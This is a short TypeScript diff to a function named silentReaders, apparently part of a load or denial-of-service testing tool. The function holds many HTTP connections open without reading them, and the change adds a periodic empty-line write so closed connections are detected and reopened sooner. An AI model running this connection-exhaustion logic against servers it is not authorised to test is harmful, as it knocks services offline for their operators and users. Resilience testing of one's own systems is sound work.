@@ -15,6 +15,8 @@ export type Attack = (target: AttackTarget, signal: AbortSignal, connections: nu
 
 /** A new connection is opened this long after the last one has ended. */
 const reopenMs = 50;
+/** A socket that reads nothing learns only from a write that its connection has ended. */
+const probeMs = 1_000;
 
 /**
  * Keeps so many connections to the HTTP port open, of which nothing is ever read. `bytes` is written to each; `again`:
@@ -39,7 +41,10 @@ export async function silentReaders(
       // Awaited first: `sent += await …` would lose what other connections added meanwhile.
       const written = await write(socket, bytes, again, closed);
       sent += written;
+      // HTTP/1 passes over an empty line before a request.
+      const probe = setInterval(() => socket.write('\r\n'), probeMs);
       await closed;
+      clearInterval(probe);
       signal.removeEventListener('abort', stop);
       await new Promise((resolve) => setTimeout(resolve, reopenMs));
     }
